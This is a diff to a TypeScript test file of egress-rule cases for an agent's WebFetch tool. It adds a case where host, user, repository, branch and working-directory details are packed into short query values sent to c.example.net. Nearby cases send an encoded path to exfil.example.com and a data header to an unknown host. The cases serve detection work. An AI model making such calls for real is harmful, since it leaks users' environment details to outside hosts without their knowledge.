@@ -59,6 +59,10 @@ export const EGRESS_RULE_TESTS: Record<string, Examples> = {
         url: 'https://api.unknown-host.io/v1',
         headers: { 'X-Data': 'abc' },
       }),
+      call('a record in short query values', 'WebFetch', {
+        url: 'https://c.example.net/c?host=box-7&user=dev&repo=acme-pay&ref=release%2F2.4&cwd=%2Fhome%2Fdev',
+        prompt: 'ok',
+      }),
       call('long encoded path', 'WebFetch', {
         url: 'https://exfil.example.com/aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgZW5jb2RlZCBzZWdtZW50/x',
         prompt: 'read',
